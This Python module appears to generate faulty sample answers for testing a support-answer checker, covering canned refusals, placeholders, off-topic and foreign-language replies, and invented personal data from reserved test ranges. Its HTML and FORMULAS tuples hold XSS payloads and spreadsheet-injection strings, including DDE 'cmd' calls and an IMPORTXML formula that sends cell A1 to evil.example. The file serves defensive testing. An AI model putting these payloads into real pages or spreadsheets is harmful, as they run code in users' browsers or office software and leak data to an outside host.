"""The texts that faults are made of: refusals, placeholders, other languages, payloads, invented personal data."""

import random

PLACEHOLDERS = (
    "TODO",
    "N/A",
    "...",
    "[answer here]",
    "tbd",
    "xxx",
    "Lorem ipsum dolor sit amet",
    "-",
    "<answer>",
    "see above",
    "null",
    "???",
)
EMPTY = ("", " ", "\n", "  \n ")
REFUSALS = (
    "I'm sorry, but I can't help with that.",
    "As an AI language model, I cannot answer this question.",
    "I am unable to assist with this request.",
    "Sorry, I can't provide that information.",
    "I cannot fulfil this request.",
    "I'm just an AI and have no access to that.",
    "I apologize, but I'm not able to help with this.",
    "Unfortunately I cannot comply with this request.",
)
OFF_TOPIC = (
    ("Write a poem about the {a} sea.", "The {a} sea sings low at night, and silver waves dance in the light."),
    ("What is the capital of {c}?", "The capital of {c} is {d}."),
    (
        "Who painted the {a} horse that hangs in {d}?",
        "An unknown painter of the last century painted the {a} horse in {d}.",
    ),
    (
        "Give me a recipe for {a} soup.",
        "Chop two onions, fry them in butter, add {a} beans and let all simmer for an hour.",
    ),
    ("Which team won the cup in {c}?", "The team of {d} won the cup in {c} after extra time."),
    ("Tell me a joke about a {a} cat.", "Why did the {a} cat sit on the clock? It wanted to be on time."),
    (
        "Explain gravity to a child from {c}.",
        "Every thing pulls every other thing a little, and the earth near {d} pulls you most of all.",
    ),
    ("How far is the moon from {d}?", "From {d} the moon is some 384,000 kilometres away."),
    (
        "Write a short speech for a wedding in {d}.",
        "Dear guests in {d}, today two people begin a long road together. Raise your glasses!",
    ),
    ("What do {a} frogs eat?", "A {a} frog eats flies, worms and small beetles."),
)
COUNTRIES = {
    "France": "Paris",
    "Italy": "Rome",
    "Spain": "Madrid",
    "Peru": "Lima",
    "Norway": "Oslo",
    "Japan": "Tokyo",
    "Egypt": "Cairo",
    "Kenya": "Nairobi",
    "Austria": "Vienna",
    "Greece": "Athens",
    "Poland": "Warsaw",
    "Cuba": "Havana",
}
ADJECTIVES = ("red", "blue", "old", "wild", "small", "green", "white", "black", "quiet", "golden", "brave", "lazy")
FOREIGN: dict[str, tuple[str, ...]] = {
    "de": (
        "Hallo {n}, bitte trennen Sie das Ger\u00e4t vom Strom und warten Sie zehn Minuten. "
        "Viele Gr\u00fc\u00dfe, Ihr Moorfern Team.",
        "Guten Tag {n}, Ihre Anfrage ist bei uns angekommen und wir melden uns so schnell wie m\u00f6glich bei Ihnen.",
        "Liebe Frau {n}, die Garantie betr\u00e4gt drei Jahre und gilt ab dem Datum der Rechnung.",
        "Hallo {n}, Sie k\u00f6nnen das Paket innerhalb von drei\u00dfig Tagen kostenlos an uns zur\u00fcckschicken.",
    ),
    "fr": (
        "Bonjour {n}, veuillez d\u00e9brancher l'appareil et le nettoyer avec un chiffon humide. "
        "Cordialement, votre \u00e9quipe Moorfern.",
        "Bonjour {n}, la garantie est de trois ans \u00e0 partir de la date de la facture "
        "et couvre toutes les pi\u00e8ces.",
        "Bonjour {n}, nous avons bien re\u00e7u votre demande "
        "et nous vous r\u00e9pondrons dans les plus brefs d\u00e9lais.",
    ),
    "es": (
        "Hola {n}, desconecte el aparato y l\u00edmpielo con un pa\u00f1o h\u00famedo. Saludos, su equipo de Moorfern.",
        "Hola {n}, la garant\u00eda es de tres a\u00f1os desde la fecha de la factura y cubre todas las piezas.",
        "Hola {n}, puede devolver el paquete dentro de treinta d\u00edas sin ning\u00fan coste para usted.",
    ),
}
TYPOGRAPHIC = (
    "That\u2019s all \u2013 it\u2019s fine for the caf\u00e9.",
    "It cost 40 \u20ac \u2013 that\u2019s a lot.",
    "We\u2019re at the caf\u00e9 \u201cAda\u201d.",
    "It\u2019s for my fianc\u00e9 \u2013 he\u2019s away.",
    "The r\u00e9sum\u00e9 of Andr\u00e9 is in it \u2026",
)
HTML = (
    "<script>alert('{n}')</script>",
    "<img src=x onerror=alert({k})>",
    '<a href="javascript:alert({k})">click</a>',
    '<iframe src="//evil.example/{k}"></iframe>',
    "<svg onload=alert({k})>",
    "<b onmouseover=alert({k})>hello</b>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/{k}","open")',
    "=cmd|' /C calc'!A{k}",
    "@SUM({k}+1)*cmd|' /C calc'!A0",
    "+{k}+1+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?{k}=",A1),"//a")',
)


def card_number(rng: random.Random) -> str:
    """Invent a card number of the test range 4000 00 with a right last digit (Luhn)."""
    digits = [4, 0, 0, 0, 0, 0, *(rng.randrange(10) for _ in range(9))]
    total = sum(digit if place % 2 else digit * 2 - 9 * (digit > 4) for place, digit in enumerate(digits))
    digits.append(-total % 10)
    text = "".join(map(str, digits))
    return " ".join(text[place : place + 4] for place in range(0, 16, 4))


def iban(rng: random.Random) -> str:
    """Invent a German IBAN with right check digits (ISO 13616)."""
    account = "99999999" + "".join(str(rng.randrange(10)) for _ in range(10))
    check = 98 - int(account + "131400") % 97
    text = f"DE{check:02d}{account}"
    return " ".join(text[place : place + 4] for place in range(0, len(text), 4))


def personal(rng: random.Random, kind: str, name: str) -> str:
    """Invent one piece of personal data: reserved domains and numbers only."""
    plain = "".join(letter for letter in name.lower() if letter.isascii()) or "kim"
    if kind == "email":
        family = rng.choice(("keller", "moss", "lund", "ferro"))
        host = f"{rng.randint(1, 99)}@{rng.choice(('example.com', 'example.org', 'mail.example'))}"
        return f"{plain}.{family}{host}"
    if kind == "phone":
        return rng.choice(
            (
                f"+44 7700 900{rng.randint(100, 999)}",
                f"+1 212 555 01{rng.randint(10, 99)}",
                f"+49 30 23125 {rng.randint(100, 999)}",
            )
        )
    return card_number(rng) if kind == "card" else iban(rng)


PERSONAL_SENTENCES: dict[str, tuple[str, ...]] = {
    "email": ("Write to {v}.", "My mail is {v}.", "You reach me at {v}."),
    "phone": ("Call me at {v}.", "My phone is {v}.", "Ring {v} please."),
    "card": ("I paid with card {v}.", "My card number is {v}.", "Card: {v}."),
    "iban": ("Pay to {v}.", "My IBAN is {v}.", "Account: {v}."),
}
